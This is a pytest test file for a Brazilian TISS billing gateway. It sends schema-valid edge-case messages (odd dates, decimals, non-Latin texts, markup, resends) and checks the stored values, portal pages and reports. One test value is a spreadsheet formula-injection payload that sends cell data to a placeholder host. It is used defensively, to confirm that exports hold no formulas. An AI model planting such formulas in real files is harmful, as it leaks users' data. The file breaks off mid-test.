"""Messages that the OFFICIAL ANS schema accepts but that carry unusual values: dates with a time
zone or far outside this century, decimals and integers in every lexical form xs:decimal and
xs:integer allow, texts at their maximum length in characters outside ISO-8859-1, markup
characters, blank identifiers, resends differing only in whitespace, and lots at the 100-guide
limit. Each is sent through the SOAP endpoints on SQLite and on PostgreSQL.

A serious gateway answers every one of them with a TISS answer that is itself valid under the
official schema (a receipt, or a table-38 code in the body), never with ErroInesperadoServidor
(which tells the provider to resend what no resend can fix); it stores the value a reader of the
message would expect, the same on both databases; and the provider's portal and the status query
still show the protocol.

Every request is checked against the official schema before it is sent (`send`), so a failure
here is the gateway's, not the test's."""

import html
from copy import deepcopy
from datetime import UTC, datetime
from decimal import Decimal
from types import SimpleNamespace

import pytest
from lxml import etree
from sqlalchemy import func, select

from gateway.tiss import codes
from gateway.tiss.hashing import hashed_parts, leaf_texts, md5_hex
from gateway.tiss.namespaces import q
from gateway.tiss.samples import (
    lote_guias_ws,
    pedido_elegibilidade_ws,
    solicitacao_demonstrativo_analise_ws,
    solicitacao_demonstrativo_pagamento_ws,
    solicitacao_status_ws,
)
from storage import models
from tests import portal_support as ps
from tests import provider_area_support as pa
from tests.backoffice_client import make_client
from tests.conftest import PROVIDER_A, REGISTRO_ANS
from tests.test_soap_queries import analyse, pay, query_for
from tests.tissclient import NS, SoapAnswer, envelope, official_schema, post, sample_lot

LOTE = "tissLoteGuias"
STATUS = "tissSolicitacaoStatusProtocolo"
ELEGIBILIDADE = "tissVerificaElegibilidade"
DEMONSTRATIVO = "tissSolicitacaoDemonstrativoRetorno"

SADT, CONSULTA, ODONTO = "guiaSP-SADT", "guiaConsulta", "guiaOdonto"
# Where each guide type keeps the date the gateway records (of the guide and of its first item).
DATE_FIELD = {SADT: "dataExecucao", CONSULTA: "dataAtendimento", ODONTO: "dataRealizacao"}
SAMPLE_DAY = "2026-11-03"  # the date of every guide and item of gateway.tiss.samples
FIRST_CODE = "40301630"  # the code of the first item of a sample SP/SADT guide


@pytest.fixture
def settings_overrides():
    return {"portal": ps.PORTAL_SETTINGS}  # the portal over plain HTTP, as in the portal tests


# --- building and sending messages -----------------------------------------------------------


def rehash(message: etree._Element) -> etree._Element:
    """Recompute the hash: over ISO-8859-1 as the standard says, or, for text that charset cannot
    carry, over UTF-8, as some clients in the field do and the gateway accepts by default."""
    text = leaf_texts(hashed_parts(message))
    message.find(q("hash")).text = md5_hex(text) or md5_hex(text, "utf-8")
    return message


def edit(message: etree._Element, *changes: tuple[str, str]) -> etree._Element:
    """Set the text of the first element named by each (local name or path, text); rehash."""
    for path, text in changes:
        found = message.find(path if "/" in path else f".//{q(path)}")
        assert found is not None, path
        found.text = text
    return rehash(message)


def lot(numero="1001", count=1, guide_type=SADT, version="4.03.00", *changes, **kw):
    """A loteGuiasWS of provider A, with `changes` (see edit) applied."""
    kw.setdefault("login", PROVIDER_A.cnpj)
    kw.setdefault("senha_md5", PROVIDER_A.senha_md5)
    sample = sample_lot(
        PROVIDER_A,
        numero,
        count,
        registro_ans=REGISTRO_ANS,
        guide_type=guide_type,
        version=version,
        **kw,
    )
    return edit(lote_guias_ws(sample), *changes)


def assert_schema_valid(message: etree._Element) -> str:
    """Check the request against the official schema of its version; return the version."""
    version = message.findtext(f"{q('cabecalho')}/{q('Padrao')}")
    schema = official_schema(version)
    assert schema.validate(message), f"the test's request is invalid: {schema.error_log}"
    return version


def send(client, message, *, service=LOTE, checked=True) -> SoapAnswer:
    """POST a message the official schema accepts (`checked=False`: the caller checked it).
    `post` checks that the HTTP answer is a SOAP envelope holding an answer valid under the
    official schema (body with a correct hash, or tissFault); here also that it is no schema
    fault and no ErroInesperadoServidor."""
    version = (
        assert_schema_valid(message)
        if checked
        else message.findtext(f"{q('cabecalho')}/{q('Padrao')}")
    )
    answer = post(client, message, version=version, service=service, encoding="UTF-8")
    assert answer.tiss_fault not in ("ErroInesperadoServidor", "SchemaInvalido"), answer.faultstring
    return answer


def accepted(answer: SoapAnswer) -> str:
    """The protocol number of a receipt; fails on a fault or a mensagemErro."""
    assert not answer.is_fault, answer.faultstring
    assert answer.code is None, answer.text(".//ans:descricaoGlosa")
    assert answer.protocol
    return answer.protocol


def refused_in_body(answer: SoapAnswer, gw) -> None:
    """A lot refused the way the standard answers a valid message: a table-38 code in
    mensagemErro, no protocol, and nothing stored."""
    assert not answer.is_fault and answer.protocol is None
    assert codes.is_known(answer.code), answer.code
    assert count(gw, models.Lot) == 0


def count(gw, model) -> int:
    with gw.db.reading() as s:
        return s.scalar(select(func.count()).select_from(model))


def _columns(row) -> dict:
    return {c.key: getattr(row, c.key) for c in row.__table__.columns}


def stored(gw, numero: str) -> SimpleNamespace:
    """The protocol's lot as stored: its columns, `guides` (columns and `items`) and `message`,
    the archive record of the message that created it."""
    with gw.db.reading() as s:
        protocol = s.scalar(select(models.Protocol).where(models.Protocol.numero == numero))
        message = s.scalar(select(models.Message).where(models.Message.protocol_id == protocol.id))
        return SimpleNamespace(
            **_columns(protocol.lot),
            guides=[
                SimpleNamespace(
                    **_columns(g), items=[SimpleNamespace(**_columns(i)) for i in g.items]
                )
                for g in protocol.lot.guides
            ],
            message=SimpleNamespace(**_columns(message)),
        )


def status_of(client, numero: str) -> SoapAnswer:
    """tissSolicitacaoStatusProtocolo of provider A's protocol: found and valid."""
    answer = send(client, solicitacao_status_ws(query_for(PROVIDER_A), numero), service=STATUS)
    assert answer.code is None, answer.text(".//ans:descricaoGlosa")
    assert answer.text(".//ans:detalheLote/ans:numeroProtocolo") == numero
    return answer


def portal_page(client, numero: str, message_id: int) -> str:
    """Log in as provider A and open every page that shows the protocol (status, capa de lote
    and its PDF, the archive list and the message's page): each must render. Returns the status
    page and the message's page, as a reader sees them (entities decoded)."""
    assert ps.login(client, PROVIDER_A.cnpj, PROVIDER_A.password).status_code == 302
    texts = []
    for path, args in (
        ("/status", {"protocolo": numero}),
        ("/capa-de-lote", {"protocolo": numero}),
        ("/arquivos", {}),
        (f"/arquivos/{message_id}", {}),
    ):
        response = client.get(pa.AREA + path, query_string=args)
        assert response.status_code == 200, (path, ps.text(response)[:300])
        texts.append(html.unescape(ps.text(response)))
    pdf = client.get(f"{pa.AREA}/capa-de-lote/{numero}.pdf")
    assert pdf.status_code == 200 and pdf.data.startswith(b"%PDF-")
    return texts[0] + texts[3]


def brazilian(day: str) -> str:
    """AAAA-MM-DD as DD/MM/AAAA, the way the portal writes dates (the year as written)."""
    year, month, dd = day.rsplit("-", 2)
    return f"{dd}/{month}/{year}"


def real(money_value: Decimal) -> str:
    """R$ 1.234,56"""
    text = f"{money_value:,.2f}".replace(",", "_").replace(".", ",").replace("_", ".")
    return f"R$ {text}"


def receipt_guides(answer: SoapAnswer) -> list[etree._Element]:
    return answer.payload.findall(f".//{q('dadosGuiasProtocolo')}/*")


# --- dates -----------------------------------------------------------------------------------

# xs:date with a time zone: the zone says nothing about which day it is, the day is recorded.
# Every form in an SP/SADT guide of 4.03.00 (and a leap day, without a zone); the Brazilian zone
# in every other guide type and version.
DATES_WITH_ZONE = [
    *[
        (sent, "2026-11-03", SADT, "4.03.00")
        for sent in ("2026-11-03Z", "2026-11-03+14:00", "2026-11-03-12:00", "2026-11-03-03:00")
    ],
    ("2024-02-29", "2024-02-29", SADT, "4.03.00"),
    ("2026-11-03-03:00", "2026-11-03", CONSULTA, "4.03.00"),
    ("2026-11-03-03:00", "2026-11-03", ODONTO, "4.03.00"),
    ("2026-11-03-03:00", "2026-11-03", SADT, "4.02.00"),
    ("2026-11-03-03:00", "2026-11-03", CONSULTA, "4.02.00"),
]


@pytest.mark.parametrize("sent,day,guide_type,version", DATES_WITH_ZONE)
def test_a_date_with_a_time_zone_is_recorded_as_its_day(client, gw, sent, day, guide_type, version):
    message = lot("D1", 1, guide_type, version, (DATE_FIELD[guide_type], sent))
    answer = send(client, message)
    numero = accepted(answer)

    lot_ = stored(gw, numero)
    (guide,) = lot_.guides
    assert guide.data_realizacao == day
    assert guide.items[0].data_realizacao == day
    assert [i.data_realizacao for i in guide.items[1:]] == [SAMPLE_DAY] * (len(guide.items) - 1)
    (listed,) = receipt_guides(answer)
    if guide_type != ODONTO:  # the odontológico receipt has no date
        assert listed.findtext(q("dataRealizacao")) == day
    assert lot_.message.raw_request == envelope(message, "UTF-8")
    status = status_of(client, numero)
    if guide_type != ODONTO:
        assert status.text(".//ans:guias/ans:dataRealizacao") == day
    assert brazilian(day) in portal_page(client, numero, lot_.message.id)


def test_a_date_in_year_0001_is_stored_and_shown_as_written(client, gw):
    numero = accepted(send(client, lot("D2", 1, SADT, "4.03.00", ("dataExecucao", "0001-01-01"))))
    lot_ = stored(gw, numero)
    assert lot_.guides[0].data_realizacao == "0001-01-01"
    assert status_of(client, numero).text(".//ans:guias/ans:dataRealizacao") == "0001-01-01"
    assert "01/01/0001" in portal_page(client, numero, lot_.message.id)


# xs:date allows years of more than four digits and negative years; the official schema accepts
# them. No one meant such a day, and no column or receipt could carry it as sent: the lot is
# refused in the body with 1323 (DATA PREENCHIDA INCORRETAMENTE), never stored with another date.
FAR_YEARS = ["12026-01-01", "-2026-01-01", "-0001-12-31", "99999-12-31Z"]


@pytest.mark.parametrize("version", ["4.03.00", "4.02.00"])
@pytest.mark.parametrize("sent", FAR_YEARS)
def test_a_date_outside_years_1_to_9999_is_refused_in_the_body(client, gw, sent, version):
    answer = send(client, lot("D3", 1, SADT, version, ("dataExecucao", sent)))
    refused_in_body(answer, gw)
    assert answer.code == codes.DATE_INVALID
    assert sent in answer.text(".//ans:descricaoGlosa")


HEADER_EXTREMES = [
    ("dataRegistroTransacao", "2026-11-21+14:00"),
    ("horaRegistroTransacao", "10:00:00.123456789-03:00"),
    ("horaRegistroTransacao", "24:00:00"),
    ("horaRegistroTransacao", "23:59:59Z"),
    ("sequencialTransacao", "漢" * 12),
    ("sequencialTransacao", "<&]]>\t1"),
]


@pytest.mark.parametrize("field,value", HEADER_EXTREMES)
def test_header_extremes_are_archived_as_sent(client, gw, field, value):
    """The cabecalho's date, time and sequence are the sender's: archived, never interpreted
    (but for a lot's day, below)."""
    message = lot("H1", 1, SADT, "4.03.00", (field, value))
    numero = accepted(send(client, message))
    archived = stored(gw, numero).message
    assert archived.raw_request == envelope(message, "UTF-8")
    assert archived.outcome == "accepted"
    if field == "sequencialTransacao":
        assert archived.sequencial == value
    query = edit(solicitacao_status_ws(query_for(PROVIDER_A), numero), (field, value))
    assert send(client, query, service=STATUS).text(".//ans:numeroProtocolo") == numero


# xs:date days no clock that registered a lot can have shown: years beyond 9999 or before 1,
# a day before TISS. The lot is refused in the body with 5025; a query with the same day is
# answered, its day archived as sent (nothing is kept or billed on it).
IMPOSSIBLE_REGISTRATION_DAYS = ["12026-01-01", "-2026-01-01", "0001-01-01Z", "1970-01-01"]


@pytest.mark.parametrize("value", IMPOSSIBLE_REGISTRATION_DAYS)
def test_a_lot_registered_on_an_impossible_day_is_5025_and_a_query_is_answered(client, gw, value):
    refused = send(client, lot("H2", 1, SADT, "4.03.00", ("dataRegistroTransacao", value)))
    refused_in_body(refused, gw)
    assert refused.code == codes.TRANSACTION_DATE_INVALID
    assert "dataRegistroTransacao" in refused.text(".//ans:descricaoGlosa")

    numero = accepted(send(client, lot("H3", 1, SADT, "4.03.00")))
    query = edit(
        solicitacao_status_ws(query_for(PROVIDER_A), numero), ("dataRegistroTransacao", value)
    )
    assert send(client, query, service=STATUS).text(".//ans:numeroProtocolo") == numero


# --- dates in queries ------------------------------------------------------------------------


def eligibility_request(validade: str) -> etree._Element:
    message = pedido_elegibilidade_ws(query_for(PROVIDER_A), pa.ACTIVE_CARD)
    card = message.find(f".//{q('numeroCarteira')}")
    card.addnext(etree.Element(q("validadeCarteira")))
    return edit(message, ("validadeCarteira", validade))


def payment_request(field: str, value: str) -> etree._Element:
    message = solicitacao_demonstrativo_pagamento_ws(
        query_for(PROVIDER_A), data_pagamento="2026-11-30"
    )
    return edit(message, (field, value))


def analysis_request(numero: str, data_solicitacao: str) -> etree._Element:
    message = solicitacao_demonstrativo_analise_ws(query_for(PROVIDER_A), [numero])
    return edit(message, ("dataSolicitacao", data_solicitacao))


@pytest.fixture
def paid(client, gw) -> str:
    """A protocol of provider A, analysed and paid on 2026-11-30 (see test_soap_queries); and the
    operator's beneficiaries (card 1111 active)."""
    numero = accepted(send(client, lot("Q1", 2)))
    analyse(gw, numero)
    pay(gw, numero, PROVIDER_A.code)
    pa.beneficiaries(gw)
    return numero


def _eligible(answer: SoapAnswer, _numero: str) -> None:
    assert answer.text(".//ans:respostaSolicitacao") == "S"


def _pays_the_protocol(answer: SoapAnswer, numero: str) -> None:
    demo = answer.payload.find(".//ans:demonstrativoPagamento", NS)
    assert demo is not None, "no payment statement"
    assert demo.findtext(".//ans:relacaoProtocolos/ans:numeroProtocolo", namespaces=NS) == numero


def _analyses_the_protocol(answer: SoapAnswer, numero: str) -> None:
    conta = answer.payload.find(".//ans:demonstrativoAnaliseConta", NS)
    assert conta is not None, "no analysis statement"
    assert conta.findtext(".//ans:dadosProtocolo/ans:numeroProtocolo", namespaces=NS) == numero


QUERIES = {
    "validadeCarteira": (ELEGIBILIDADE, eligibility_request, _eligible),
    "pagamento/dataSolicitacao": (
        DEMONSTRATIVO,
        lambda value: payment_request("dataSolicitacao", value),
        _pays_the_protocol,
    ),
    "pagamento/dataPagamento": (
        DEMONSTRATIVO,
        lambda value: payment_request("dataPagamento", value),
        _pays_the_protocol,
    ),
    "analise/dataSolicitacao": (DEMONSTRATIVO, None, _analyses_the_protocol),
}


def query(kind: str, value: str, numero: str) -> tuple[str, etree._Element]:
    service, build, _ = QUERIES[kind]
    return service, analysis_request(numero, value) if build is None else build(value)


@pytest.mark.parametrize("kind", list(QUERIES))
def test_query_dates_without_a_zone_are_answered(client, gw, paid, kind):
    """The reference for the two tests below: the same queries with plain dates."""
    value = "2026-11-30" if kind == "pagamento/dataPagamento" else "2026-11-21"
    service, message = query(kind, value, paid)
    QUERIES[kind][2](send(client, message, service=service), paid)


@pytest.mark.parametrize("zone", ["Z", "-03:00", "+14:00"])
@pytest.mark.parametrize("kind", list(QUERIES))
def test_query_dates_with_a_time_zone_are_answered_for_their_day(client, gw, paid, kind, zone):
    day = "2026-11-30" if kind == "pagamento/dataPagamento" else "2026-11-21"
    service, message = query(kind, day + zone, paid)
    QUERIES[kind][2](send(client, message, service=service), paid)


@pytest.mark.parametrize("sent", ["12026-11-30", "-2026-11-30"])
@pytest.mark.parametrize("kind", list(QUERIES))
def test_query_dates_outside_years_1_to_9999_get_a_tiss_answer(client, gw, paid, kind, sent):
    """No payment, card validity or request can be on such a day: any valid TISS answer (a
    situação, a negativa, a table-38 code) will do, but not a server error."""
    service, message = query(kind, sent, paid)
    answer = send(client, message, service=service)
    assert answer.payload is not None or codes.is_known(answer.code)


# --- decimals and integers -------------------------------------------------------------------

# st_decimal10-2 (totalDigits 10, fractionDigits 2): every lexical form below is that type.
DECIMALS = [
    ("0000012.50", "12.50"),
    ("+12.50", "12.50"),
    ("12", "12.00"),
    ("12.", "12.00"),
    (".5", "0.50"),
    ("12.500", "12.50"),
    (" 12.50\n", "12.50"),
    ("-0.00", "0.00"),
    ("99999999.99", "99999999.99"),
    ("9999999999", "9999999999.00"),
]


@pytest.mark.parametrize("sent,value", DECIMALS)
def test_a_decimal_in_any_lexical_form_is_recorded_as_its_value(client, gw, sent, value):
    """The guide's valorTotalGeral and its first item's valorTotal, in the same form."""
    expected = Decimal(value)
    message = lot(
        "V1",
        1,
        SADT,
        "4.03.00",
        ("valorTotalGeral", sent),
        (f".//{q('procedimentoExecutado')}/{q('valorTotal')}", sent),
    )
    answer = send(client, message)
    numero = accepted(answer)
    assert answer.text(".//ans:valorTotalProtocolo") == f"{expected:.2f}"

    lot_ = stored(gw, numero)
    assert lot_.total_value == expected
    assert lot_.guides[0].valor_informado == expected
    assert lot_.guides[0].items[0].valor_informado == expected
    assert status_of(client, numero).text(".//ans:detalheLote/ans:numeroLote") == "V1"
    assert real(expected) in portal_page(client, numero, lot_.message.id)


# Negative values are valid st_decimal10-2, but no guide bills a negative amount (table 38 has
# 5049 for exactly this), and the operator's statements and back office carry non-negative values.
NEGATIVES = [
    ("valorTotalGeral", "-12.50", codes.NEGATIVE_GUIDE_TOTAL),
    ("valorTotalGeral", "-99999999.99", codes.NEGATIVE_GUIDE_TOTAL),
    (f".//{q('procedimentoExecutado')}/{q('valorTotal')}", "-12.50", codes.VALUE_INVALID),
]


@pytest.mark.parametrize("field,sent,code", NEGATIVES)
def test_a_negative_value_is_refused_in_the_body(client, gw, field, sent, code):
    answer = send(client, lot("V2", 1, SADT, "4.03.00", (field, sent)))
    refused_in_body(answer, gw)
    assert answer.code == code and sent in answer.text(".//ans:descricaoGlosa")


# st_numerico3 (quantidadeExecutada) and st_numerico4 (sequencialItem) are xs:integer.
INTEGERS = [
    ("quantidadeExecutada", "+5", 5),
    ("quantidadeExecutada", "005", 5),
    ("quantidadeExecutada", " 5 ", 5),
    ("quantidadeExecutada", "0", 0),
    ("quantidadeExecutada", "-5", -5),
    ("quantidadeExecutada", "999", 999),
    ("sequencialItem", "0007", 7),
    ("sequencialItem", " 7 ", 7),
    ("sequencialItem", "9999", 9999),
    ("sequencialItem", "+7", 7),
    ("sequencialItem", "-7", -7),
]


@pytest.mark.parametrize("field,sent,value", INTEGERS)
def test_an_integer_in_any_lexical_form_is_recorded_as_its_value(client, gw, field, sent, value):
    numero = accepted(send(client, lot("I1", 1, SADT, "4.03.00", (field, sent))))
    # Items are read back by sequencialItem: the first one sent is found by its code.
    (first_item,) = [
        i for i in stored(gw, numero).guides[0].items if i.codigo_procedimento == FIRST_CODE
    ]
    recorded = first_item.quantidade if field == "quantidadeExecutada" else first_item.sequencial
    assert recorded == value
    status_of(client, numero)


# --- lot totals at the limits ----------------------------------------------------------------


def test_100_guides_of_the_largest_value_make_the_largest_protocol_total(client, gw):
    """100 x 99999999.99 = 9999999999.00: exactly what valorTotalProtocolo (st_decimal10-2) and
    the stored total can hold."""
    message = lot("L100", 100, SADT, "4.03.00")
    for total in message.iter(q("valorTotalGeral")):
        total.text = "99999999.99"
    answer = send(client, rehash(message))
    numero = accepted(answer)
    assert answer.text(".//ans:valorTotalProtocolo") == "9999999999.00"
    assert len(receipt_guides(answer)) == 100
    lot_ = stored(gw, numero)
    assert lot_.total_value == Decimal("9999999999.00") and lot_.guide_count == 100
    assert status_of(client, numero).text(".//ans:detalheLote/ans:numeroLote") == "L100"


@pytest.mark.parametrize("value", ["99999999.99", "9999999999"])
def test_a_lot_total_beyond_what_the_receipt_can_carry_is_refused_in_the_body(client, gw, value):
    """Two guides of the largest values: the sum has 11 integer digits, which no receipt
    (valorTotalProtocolo, st_decimal10-2) can state. Refusing the lot in the body is the only
    valid answer; it must be the same on both databases."""
    message = lot("L2", 2, SADT, "4.03.00")
    for total in message.iter(q("valorTotalGeral")):
        total.text = value
    refused_in_body(send(client, rehash(message)), gw)


def test_101_guides_with_extreme_values_are_5015_in_the_body(client, gw):
    """One guide over the schema's maxOccurs (100), every other value valid: answered 5015 in
    the body, not with a schema fault and not with a server error."""
    message = lot("L101", 101, SADT, "4.03.00")
    guides = message.find(f".//{q('guiasTISS')}")
    for guide in guides:
        guide.find(f".//{q('valorTotalGeral')}").text = "-99999999.99"
        guide.find(f".//{q('dataExecucao')}").text = "12026-01-01"
    rehash(message)
    first_100 = deepcopy(message)
    first_100.find(f".//{q('guiasTISS')}").remove(first_100.find(f".//{q('guiasTISS')}")[-1])
    assert_schema_valid(first_100)
    answer = send(client, message, checked=False)
    refused_in_body(answer, gw)
    assert answer.code == codes.TOO_MANY_GUIDES


# --- texts -----------------------------------------------------------------------------------

LATIN = "ÁÉÍÓÚÇÃÕÜÑ"  # in ISO-8859-1
CJK = "漢"  # outside ISO-8859-1, 3 bytes in UTF-8
EMOJI = "🙂"  # outside the BMP, 4 bytes in UTF-8
MARKUP = "<&]]>\"'"


# Where the gateway stores each field (of the lot, its first guide, that guide's first item).
STORED_AS = {
    "numeroLote": lambda lot_: lot_.numero_lote,
    "numeroGuiaPrestador": lambda lot_: lot_.guides[0].numero_guia_prestador,
    "numeroCarteira": lambda lot_: lot_.guides[0].numero_carteira,
    "descricaoProcedimento": lambda lot_: lot_.guides[0].items[0].descricao,
    "codigoProcedimento": lambda lot_: lot_.guides[0].items[0].codigo_procedimento,
}
# Echoed by the receipt and shown on the portal's protocol pages.
ECHOED = {"numeroLote", "numeroGuiaPrestador", "numeroCarteira"}

# (field, sent, recorded): each at its type's maximum length where it says so (st_texto12 for
# numeroLote, 20 for the guide's and card's numbers, 150 for descriptions, 10 for codes).
TEXTS = [
    pytest.param("numeroLote", CJK * 12, CJK * 12, id="numeroLote-12-CJK"),
    pytest.param("numeroLote", LATIN + "12", LATIN + "12", id="numeroLote-12-latin1"),
    pytest.param("numeroLote", MARKUP, MARKUP, id="numeroLote-markup"),
    pytest.param("numeroLote", "  1001\t", "1001", id="numeroLote-surrounded-by-blanks"),
    pytest.param("numeroGuiaPrestador", CJK * 20, CJK * 20, id="numeroGuia-20-CJK"),
    pytest.param("numeroGuiaPrestador", EMOJI * 20, EMOJI * 20, id="numeroGuia-20-emoji"),
    pytest.param("numeroGuiaPrestador", LATIN * 2, LATIN * 2, id="numeroGuia-20-latin1"),
    pytest.param("numeroGuiaPrestador", MARKUP, MARKUP, id="numeroGuia-markup"),
    pytest.param("numeroGuiaPrestador", "G\t1\n2", "G\t1\n2", id="numeroGuia-tab-newline"),
    pytest.param("numeroGuiaPrestador", " G1 ", "G1", id="numeroGuia-surrounded-by-spaces"),
    pytest.param("numeroCarteira", EMOJI * 20, EMOJI * 20, id="numeroCarteira-20-emoji"),
    pytest.param("numeroCarteira", MARKUP, MARKUP, id="numeroCarteira-markup"),
    pytest.param("descricaoProcedimento", CJK * 150, CJK * 150, id="descricao-150-CJK"),
    pytest.param("descricaoProcedimento", EMOJI * 150, EMOJI * 150, id="descricao-150-emoji"),
    pytest.param("descricaoProcedimento", "é" * 150, "é" * 150, id="descricao-150-latin1"),
    pytest.param("descricaoProcedimento", MARKUP + "\t\n", MARKUP, id="descricao-markup"),
    pytest.param("codigoProcedimento", CJK * 10, CJK * 10, id="codigo-10-CJK"),
]


@pytest.mark.parametrize("field,sent,recorded", TEXTS)
def test_a_text_at_its_maximum_length_or_with_markup_is_recorded_as_sent(
    client, gw, field, sent, recorded
):
    message = lot("T1", 1, SADT, "4.03.00", (field, sent))
    answer = send(client, message)
    numero = accepted(answer)
    lot_ = stored(gw, numero)
    assert STORED_AS[field](lot_) == recorded
    assert lot_.message.raw_request == envelope(message, "UTF-8")
    status_of(client, numero)
    page = portal_page(client, numero, lot_.message.id)
    if field not in ECHOED:
        return
    assert recorded in page
    # The receipt is hashed in ISO-8859-1 (the standard): what that charset cannot carry is
    # replaced, so only Latin-1 values can be compared as sent.
    if all(ord(c) < 256 for c in recorded):
        receipt = answer.payload.find(f".//{q('protocoloRecebimento')}")
        assert recorded in [el.text for el in receipt.iter()]


# Only whitespace: valid for st_texto (minLength counts the spaces), refused in the body with the
# table-38 code of the field.
BLANKS = [
    ("numeroLote", " ", codes.LOT_NUMBER_MISSING),
    ("numeroLote", "\t\t", codes.LOT_NUMBER_MISSING),
    ("numeroGuiaPrestador", "   ", codes.GUIDE_NUMBER_INVALID),
    ("numeroCarteira", "\n", codes.CARD_NUMBER_INVALID),
    ("codigoProcedimento", " ", codes.PROCEDURE_INVALID),
]


@pytest.mark.parametrize("field,sent,code", BLANKS)
def test_a_blank_identifier_is_refused_in_the_body(client, gw, field, sent, code):
    """Trimmed, it would be empty: a receipt echoing it would break the schema (minLength 1), and
    every blank lot number of a provider would be the same lot."""
    answer = send(client, lot("B1", 1, SADT, "4.03.00", (field, sent)))
    refused_in_body(answer, gw)
    assert answer.code == code


# --- after the operator's analysis: statements and reports ----------------------------------

FORMULA = '=HYPERLINK("https://exemplo.invalido/"&A1,"Clique aqui")'
# (change to the lot, a text the analytic spreadsheet must hold, or None)
ANALYSED = {
    "a procedure code outside ISO-8859-1": (("codigoProcedimento", CJK * 10), CJK * 10),
    "a description of emoji": (("descricaoProcedimento", EMOJI * 150), EMOJI * 150),
    "a guide number with a tab and a newline": (("numeroGuiaPrestador", "G\t1\n2"), "G\t1\n2"),
    # A spreadsheet must show it, not run it (formula injection).
    "a description that is a formula": (("descricaoProcedimento", FORMULA), FORMULA),
    "a guide number that is a formula": (("numeroGuiaPrestador", "=1+2"), "=1+2"),
    "a negative quantity": (("quantidadeExecutada", "-5"), None),
    "the largest sequencialItem": (("sequencialItem", "9999"), None),
}


@pytest.mark.parametrize(
    "case",
    list(ANALYSED),
)
def test_statements_and_reports_of_an_analysed_protocol_with_extreme_values(client, gw, case):
    change, in_spreadsheet = ANALYSED[case]
    numero = accepted(send(client, lot("A1", 2, SADT, "4.03.00", change)))
    analyse(gw, numero)
    pay(gw, numero, PROVIDER_A.code)
    _analyses_the_protocol(
        send(client, analysis_request(numero, "2026-11-21"), service=DEMONSTRATIVO), numero
    )
    _pays_the_protocol(
        send(client, payment_request("dataPagamento", "2026-11-30"), service=DEMONSTRATIVO),
        numero,
    )
    assert ps.login(client, PROVIDER_A.cnpj, PROVIDER_A.password).status_code == 302
    for path in (
        f"/relatorios/{numero}/analitico.pdf",
        f"/relatorios/{numero}/sintetico.pdf",
        f"/demonstrativos/analise/{numero}.pdf",
    ):
        response = client.get(pa.AREA + path)
        assert response.status_code == 200 and response.data.startswith(b"%PDF-"), path
    for kind in ("analitico", "sintetico"):
        sheet = client.get(f"{pa.AREA}/relatorios/{numero}/{kind}.xlsx")
        assert sheet.status_code == 200
        assert pa.sheet_formulas(sheet.data) == [], kind
    sheet = client.get(f"{pa.AREA}/relatorios/{numero}/analitico.xlsx")
    if in_spreadsheet is not None:
        cells = [cell for row in pa.sheet_values(sheet.data) if row for cell in row]
        assert in_spreadsheet in cells


# --- resends ---------------------------------------------------------------------------------


def pretty_printed(message: etree._Element) -> etree._Element:
    """The same message indented: whitespace between elements, no leaf text changed."""
    text = etree.tostring(message, pretty_print=True)
    return etree.fromstring(text, etree.XMLParser(remove_blank_text=False))


# (what differs from lot("R1", 2), and the resend)
INSIGNIFICANT = {
    "indentation between elements": lambda: pretty_printed(lot("R1", 2)),
    "spaces around a decimal": lambda: lot(
        "R1", 2, SADT, "4.03.00", ("valorTotalGeral", " 150.00 ")
    ),
    "a newline after an integer": lambda: lot(
        "R1", 2, SADT, "4.03.00", ("quantidadeExecutada", "1\n")
    ),
    "spaces around the lot number": lambda: lot("R1", 2, SADT, "4.03.00", ("numeroLote", " R1 ")),
}


@pytest.mark.parametrize(
    "difference",
    list(INSIGNIFICANT),
)
def test_a_resend_differing_only_in_insignificant_whitespace_gets_the_same_protocol(
    client, gw, difference
):
    first = accepted(send(client, lot("R1", 2)))
    again = send(client, INSIGNIFICANT[difference]())
    assert accepted(again) == first
    assert count(gw, models.Lot) == 1 and count(gw, models.Protocol) == 1
    with gw.db.reading() as s:
        last = s.scalar(select(models.Message).order_by(models.Message.id.desc()))
    assert last.outcome == "duplicate"


# (what differs: the first lot's change, if any, and the resend's)
SIGNIFICANT = {
    "a value differs by one cent": ((), ("valorTotalGeral", "150.01")),
    "the day of the execution": ((), ("dataExecucao", "2026-11-04")),
    "a text the gateway does not store": ((), ("nomeContratadoSolicitante", "CLÍNICA SÃO LUCAS 2")),
    "the last character of a full text": (
        (("numeroGuiaPrestador", CJK * 20),),
        ("numeroGuiaPrestador", CJK * 19 + "字"),
    ),
}


@pytest.mark.parametrize("difference", list(SIGNIFICANT))
def test_the_same_lot_number_with_one_field_changed_is_refused_in_the_body(client, gw, difference):
    """README, error table row 12: 5053 in the body, no new protocol, the first lot untouched."""
    original, changed = SIGNIFICANT[difference]
    first = accepted(send(client, lot("R2", 2, SADT, "4.03.00", *original)))
    before = stored(gw, first)
    again = send(client, lot("R2", 2, SADT, "4.03.00", *original, changed))
    assert not again.is_fault and again.protocol is None
    assert again.code == codes.IDENTIFIER_ALREADY_SENT
    assert count(gw, models.Lot) == 1 and count(gw, models.Protocol) == 1
    after = stored(gw, first)
    assert after.total_value == before.total_value
    assert [vars(g) for g in after.guides] == [vars(g) for g in before.guides]


# --- the operator's back office --------------------------------------------------------------

EPOCH = datetime(2000, 1, 1, tzinfo=UTC)

# What the lot holds, and what obterProtocolo must then show: fields of the protocol, of its
# first guide (guia.) and of that guide's first item (item.).
BACK_OFFICE = {
    "texts outside ISO-8859-1 and markup": (
        [
            ("numeroLote", CJK * 12),
            ("numeroGuiaPrestador", EMOJI * 20),
            ("numeroCarteira", MARKUP),
            ("descricaoProcedimento", CJK * 150),
        ],
        {
            "numeroLote": CJK * 12,
            "guia.numeroGuiaPrestador": EMOJI * 20,
            "guia.numeroCarteira": MARKUP,
            "item.descricaoProcedimento": CJK * 150,
        },
    ),
    "the largest values": (
        [("valorTotalGeral", "9999999999"), ("quantidadeExecutada", "999")],
        {"guia.valorInformado": Decimal("9999999999.00"), "item.quantidade": 999},
    ),
    "a negative quantity": ([("quantidadeExecutada", "-5")], {"item.quantidade": -5}),
}


def shown(protocolo, name: str):
    where, _, field = name.rpartition(".")
    first_guide = protocolo.guia[0]
    return getattr({"": protocolo, "guia": first_guide, "item": first_guide.item[0]}[where], field)


@pytest.mark.parametrize(
    "case",
    list(BACK_OFFICE),
)
def test_the_back_office_shows_the_protocol_as_received(client, gw, server_url, staff, case):
    """The operator's API (answers validated against xsd/tissGatewayBackOffice.xsd by the
    client): the protocol and the lot listing, with the values as the provider sent them."""
    changes, expected = BACK_OFFICE[case]
